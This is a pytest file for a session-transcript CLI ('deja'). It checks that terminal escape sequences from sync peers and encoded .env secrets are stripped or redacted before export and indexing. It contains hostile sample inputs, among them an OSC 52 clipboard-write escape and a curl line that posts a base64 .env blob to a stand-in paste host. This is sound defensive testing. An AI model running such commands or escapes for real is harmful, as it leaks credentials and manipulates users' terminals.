"""Hostile input through the fronts other than search: a session's fields as a sync peer or the
hub sent them (escape sequences in its harness, id and origin), written out by `deja export -o`;
the fields of a note besides its text. Everything through the CLI's main, in a throwaway HOME."""

from __future__ import annotations

import json
import re
from pathlib import Path

from conftest import deja

# What a terminal obeys (OSC 52 clipboard write, clear screen, 8-bit CSI) or draws in another order.
ESC = "\x1b]52;c;cHduZWQ=\x07\x1b[2J\x9b31m\u202e"
RAW = re.compile("[\x00-\x08\x0b-\x1f\x7f-\x9f\u202a-\u202e\u2066-\u2069]")
GITHUB = "ghp_aB3dE5fG7hJ9kL1mN3pQ5rS7tU9vW1xY3zA5"  # a token in GitHub's format (synthetic)


def _import(home: Path, records: list[dict]) -> None:
    d = home / "batches"
    d.mkdir()
    lines = [json.dumps({"deja_sync": 1, "machine": "peer", "records": len(records)})]
    lines += [json.dumps({"v": 1, "parent": "", "seq": i, "time": f"2026-11-01T10:00:0{i}Z", **r})
              for i, r in enumerate(records)]
    (d / "deja-sync-peer-20261201T000000.000000Z.jsonl").write_text("\n".join(lines) + "\n")
    got = deja("sync", "import", str(d), "--json", env={"DEJA_MACHINE": "me"}).json()
    assert got["added"] == len(records)


def test_an_export_file_holds_no_escape_from_a_peer_s_session_fields(home):
    _import(home, [{"origin": "pe\x1b[31mer", "harness": "claude" + ESC, "session_id": "s1" + ESC,
                    "project": "/p/x", "cwd": "/p/x", "title": "wombat", "role": "user",
                    "text": "the wombat key is here"}])
    for fmt in ("md", "html", "json"):
        out = home / f"out.{fmt}"
        deja("export", "s1", "--format", fmt, "-o", str(out))
        text = out.read_text(encoding="utf-8")
        assert "wombat" in text and not RAW.search(text), (fmt, text)
        if fmt == "json":
            s = json.loads(text)["session"]
            assert not RAW.search(s["harness"] + s["id"])
            assert s["id"].startswith("s1") and s["id"].endswith("@peer")  # its escapes dropped, the rest shown
    shared = home / "shared.md"
    deja("share", "s1", "-o", str(shared))
    assert not RAW.search(shared.read_text(encoding="utf-8"))


def test_a_note_s_project_and_tags_are_redacted_before_they_are_written(home):
    deja("remember", "the deploy uses the vault", "--tag", GITHUB, "--project", f"/w/p?token={GITHUB}")
    deja("index")
    notes = next((home / ".local/share/deja").glob("notes*.jsonl"))
    assert "deploy uses the vault" in notes.read_text() and GITHUB not in notes.read_text()
    cache = home / ".cache/deja"
    leaked = [p for p in cache.rglob("*") if p.is_file() and GITHUB.encode() in p.read_bytes()]
    assert not leaked
    assert deja("vault").out.count("[redacted:") >= 1


def test_a_dot_env_in_base64_or_percent_encoded_reaches_no_index_file_nor_output(home):
    import base64

    from conftest import Transcript

    openai = "sk-proj-" + "Ab3De5Gh7Jk9Mn1Pq3St5Vw7Yz9Bc2Df4Gh6Jk8Mn0Pq2St4Vw6Yz8Bc1Df3Gh5Jk7Mn9P"
    env = f"OPENAI_API_KEY={openai}\nGITHUB_TOKEN={GITHUB}\nDB_PASSWORD=Tr0ub4dor-and-3-horses\n"
    flat = base64.b64encode(env.encode()).decode()
    wrapped = base64.encodebytes(env.encode()).decode()  # 76 characters a line, as `base64` prints it
    urlenc = "data=" + "".join(c if c.isalnum() else f"%{ord(c):02X}" for c in env)
    (Transcript("5e1d0c52-0000-4000-8000-00000000cafe", "/w/okapi", 3)
     .user("ship the okapi config to the cluster")
     .bash("base64 -w0 .env", flat)
     .bash("base64 .env", wrapped)
     .bash("cat body.txt", urlenc)
     .say("the okapi config is encoded").write(home))
    deja("index")
    blobs = [flat[:40], wrapped[:40], openai[20:40], GITHUB[4:24], "Tr0ub4dor"]
    leaked = [(p.name, b) for p in (home / ".cache/deja").rglob("*") if p.is_file()
              for b in blobs if b.encode() in p.read_bytes()]
    assert not leaked
    shown = deja("show", "5e1d0c52").out + deja("okapi", "--json").out
    assert "[redacted:encoded-secret]" in shown and not [b for b in blobs if b in shown]
    # a blob of printable text with no secret, and one of binary bytes, are left as they are
    plain = base64.b64encode(b"the okapi lives in the rainforest of the congo basin\n" * 3).decode()
    binary = base64.b64encode(bytes(range(256))).decode()
    (Transcript("5e1d0c52-0000-4000-8000-00000000beef", "/w/okapi", 4)
     .user("decode the okapi notes").bash("base64 notes.txt", plain).bash("base64 blob.bin", binary).write(home))
    deja("index")
    out = deja("show", "5e1d0c52-0000-4000-8000-00000000beef").out
    assert plain[:60] in out and binary[:60] in out and "[redacted" not in out


def test_a_dot_env_in_base64_wrapped_with_crlf_or_indented_reaches_no_index_file_nor_output(home):
    """MIME (RFC 2045) and Windows' `certutil -encode` wrap base64 with CRLF, a YAML block scalar
    indents its lines: the lines are one blob there too. Decoded a line at a time, a key cut across
    two lines was no secret in either."""
    import base64

    from conftest import Transcript

    linear = "lin_api_" + "a1b2c3d4e5" * 4
    env = f"# staging values, do not commit\nLINEAR={linear}\nDEBUG=1\n"
    crlf = base64.encodebytes(env.encode()).decode().replace("\n", "\r\n")
    assert len(crlf.split("\r\n")) > 2 and linear[8:] not in base64.b64decode(crlf.split("\r\n")[0] + "==").decode("latin-1")
    (Transcript("5e1d0c52-0000-4000-8000-00000000c0de", "/w/okapi", 3)
     .user("mail the okapi config").bash("certutil -encode .env out.b64 && type out.b64", crlf)
     .bash("cat values.yaml", "env: |\n" + "".join(f"  {line}\n" for line in crlf.split("\r\n") if line))
     .say("the okapi config is in the mail").write(home))
    deja("index")
    blobs = [line[:40] for line in crlf.split("\r\n") if len(line) >= 40]
    leaked = [(p.name, b) for p in (home / ".cache/deja").rglob("*") if p.is_file()
              for b in blobs if b.encode() in p.read_bytes()]
    assert not leaked
    shown = deja("show", "5e1d0c52-0000-4000-8000-00000000c0de").out
    assert shown.count("[redacted:encoded-secret]") == 2 and not [b for b in blobs if b in shown]


def test_a_dot_env_in_base64_after_a_url_path_or_percent_encoded_reaches_no_output(home):
    """Base64 at the end of a URL's path (`/hook/T1BF…`: the path's letters and slashes are base64
    characters, so the run began at the path and decoded misaligned), and base64 sent in a form body
    or a query string (its `+`, `/` and `=` percent-encoded: read only once decoded)."""
    import base64
    from urllib.parse import quote

    from conftest import Transcript

    openai = "sk-proj-" + "Ab3De5Gh7Jk9Mn1Pq3St5Vw7Yz9Bc2Df4Gh6Jk8Mn0Pq2St4Vw6Yz8Bc1Df3Gh5Jk7Mn9P"
    env = f">>>OPENAI_API_KEY={openai}\nDB_PASSWORD=Tr0ub4dor-and-3-horses\n"
    blob = base64.b64encode(env.encode()).decode()
    assert "+" in blob and "%2B" in quote(blob, safe="")
    (Transcript("5e1d0c52-0000-4000-8000-00000000f00d", "/w/okapi", 3)
     .user("post the okapi config").bash("curl -s https://paste.example/raw/" + blob, "ok")
     .bash("cat body.txt", "payload " + quote(blob, safe="") + " sent")
     .say("the okapi config is posted").write(home))
    deja("index")
    shown = deja("show", "5e1d0c52-0000-4000-8000-00000000f00d").out
    assert shown.count("[redacted:encoded-secret]") == 2, shown
    assert blob[:40] not in shown and quote(blob, safe="")[:40] not in shown


def test_a_dot_env_in_wrapped_base64_read_with_line_numbers_reaches_no_output(home):
    """An agent's file read (`     2→…`, `cat -n`'s `     2\\t…`) numbers the lines of a wrapped blob:
    they are one blob still. Decoded a line at a time, a key cut across two lines passed."""
    import base64

    from conftest import Transcript

    linear = "lin_api_" + "a1b2c3d4e5" * 4
    env = f"# staging values, do not commit\nLINEAR={linear}\nDEBUG=1\n"
    lines = base64.encodebytes(env.encode()).decode().splitlines()
    (Transcript("5e1d0c52-0000-4000-8000-00000000ba5e", "/w/okapi", 3)
     .user("check the okapi secret file").read("/w/okapi/env.b64", "".join(f"{i + 1:6d}\u2192{x}\n" for i, x in enumerate(lines)))
     .bash("cat -n env.b64", "".join(f"{i + 1:6d}\t{x}\n" for i, x in enumerate(lines)))
     .say("the okapi secret file is base64").write(home))
    deja("index")
    shown = deja("show", "5e1d0c52-0000-4000-8000-00000000ba5e").out
    assert shown.count("[redacted:encoded-secret]") == 2, shown
    assert not [x for x in lines if x[:40] in shown]
